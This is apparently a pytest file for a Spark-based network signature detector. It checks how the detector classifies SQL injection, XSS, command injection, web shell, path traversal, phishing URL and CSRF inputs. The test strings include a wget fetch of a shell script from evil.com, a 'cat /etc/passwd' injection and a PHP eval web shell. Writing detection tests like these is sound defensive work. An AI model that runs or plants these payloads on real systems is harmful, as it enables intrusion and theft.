"""The known payload, URL, header and request cases."""

from urllib.parse import unquote

import pytest
from pyspark.sql import functions as F

from netlens.functions.net import is_private
from netlens.functions.text import percent_decode
from netlens.operators import signatures as G

HOST = "\r\nHost: 192.168.56.1\r\n\r\n"


def attack(spark, text, match=G.match_payload):
    return match(spark.createDataFrame([(text,)], "t string"), "t").first()


@pytest.mark.parametrize("text, expected", [
    ("SELECT * FROM users WHERE id=1 OR 1=1", "SQLInjection"),
    ("<script>alert(document.cookie)</script>", "XSS"),
    ("ping 8.8.8.8; wget http://evil.com/shell.sh", "CommandInject"),
    ("Hello world this is normal text", None),
    ("GET /search?q=%3B%20wget%20http%3A%2F%2Fevil.com%2Fshell.sh HTTP/1.1" + HOST, "CommandInject"),
    ("GET /search?q=;cat%20/etc/passwd HTTP/1.1" + HOST, "CommandInject"),
    ("POST /upload HTTP/1.1" + HOST + "<?php eval($_POST['cmd']); ?>", "WebShell"),
    ("POST /upload HTTP/1.1" + HOST + "plain text", None),
    ("GET /x?f=../../secret HTTP/1.1" + HOST, "PathTraversal"),
    ("", None), (None, None),
])
def test_payloads(spark, text, expected):
    row = attack(spark, text)
    assert row["attack_type"] == expected and row["detected"] == (expected is not None)


def test_webshell_details(spark):
    row = attack(spark, "<?php eval($_POST['cmd']); ?>")
    assert row["severity"] == "CRITICAL" and row["mitre_technique"] == "T1505.003"


@pytest.mark.parametrize("url, expected", [
    ("http://paypa1.tk/login", "suspicious_tld:.tk"), ("http://paypa1.com/login", "paypa[l1][^a-z]"), ("http://bit.ly/free", r"bit\.ly/"),
    ("http://8.8.8.8/x", "raw_ip_host"), ("http://192.168.56.7/x", None), ("http://example.com/ok", None), ("http://999.1.1.1/x", "raw_ip_host"),
])
def test_urls(spark, url, expected):
    assert attack(spark, url, G.match_url)["pattern_matched"] == expected


def request(origin="Origin: http://evil.example\r\n", cookie="Cookie: a=b; session=abc123; c=d\r\n", line="POST /account/email HTTP/1.1"):
    return f"{line}\r\nHost: shop.local:8080\r\n{cookie}{origin}\r\nemail=x"


def test_csrf(spark):
    def csrf(text):
        return attack(spark, text, G.match_csrf)
    hit = csrf(request())
    assert hit["attack_type"] == "CSRF" and hit["session_token"] == "abc123" and hit["mitre_tactic"] == "Unknown"
    assert csrf(request(origin=""))["detected"] and csrf(request(cookie="cookie: theme=dark\r\n"))["session_token"] == "theme=dark"
    for clean in (request(origin="Origin: http://shop.local\r\n"), request(cookie=""), request(line="GET /account/email HTTP/1.1"), request(line="POST /other HTTP/1.1")):
        assert not csrf(clean)["detected"]


def test_headers_in_order(spark):
    df = spark.range(1).select(F.create_map(*[F.lit(x) for x in (
        "Accept", "' OR 1=1", "Authorization", "Basic dXNlcjpwYXNz", "User-Agent", "a' --")]).alias("h"))
    assert G.match_headers(df, "h").first()["attack_type"] == "BruteForce"


def test_scan_lists_every_family(spark):
    df = spark.createDataFrame([("<script>x</script>' ; cat /etc/passwd",)], "t string")
    assert [r["attack_type"] for r in G.scan_payload(df, "t").collect()] == ["SQLInjection", "XSS", "CommandInject", "PathTraversal"]


def test_labels_of_flows(spark):
    rows = [(1, request()), (2, "GET /redirect?to=http://bit.ly/free-prize HTTP/1.1" + HOST), (3, "abc�|def"), (4, ""), (5, "GET /fine HTTP/1.1" + HOST)]
    df = spark.createDataFrame(rows, "id int, payload_sample string").withColumn("dst_ip", F.lit("192.168.56.1"))
    got = {r["id"]: r["sig_attack_type"] for r in G.signature_labels(df).collect()}
    assert got == {1: "CSRF", 2: "Phishing", 3: None, 4: None, 5: None}
    reports = spark.createDataFrame([("http://192.168.56.1/fine", 3, 60)], "url string, positives int, total int")
    labelled = G.signature_labels(df, reports)
    assert set(labelled.columns) == {*df.columns, "sig_attack_type", "csrf_session_token"}
    assert {r["id"]: r["sig_attack_type"] for r in labelled.collect()}[5] == "Phishing"


@pytest.mark.parametrize("text", ["a%20b", "a+b", "100%", "%zz%41", "%C3%A9", "%ff%fe", "%2541", "é%20", "%"])
def test_percent_decoding(spark, text):
    assert spark.createDataFrame([(text,)], "t string").select(percent_decode(F.col("t"))).first()[0] == unquote(text)


@pytest.mark.parametrize("ip, expected", [
    ("10.1.2.3", True), ("172.31.0.1", True), ("172.32.0.1", False), ("192.168.0.1", True), ("8.8.8.8", False), ("127.0.0.1", True), ("169.254.1.1", True),
    ("203.0.113.9", True), ("100.64.0.1", False), ("255.255.255.255", True), ("300.1.1.1", False), ("01.2.3.4", False), ("::1", True), ("fe80::1", True), ("2a00::1", False), ("x", False)])
def test_private_addresses(spark, ip, expected):
    assert spark.createDataFrame([(ip,)], "i string").select(is_private(F.col("i"))).first()[0] is expected
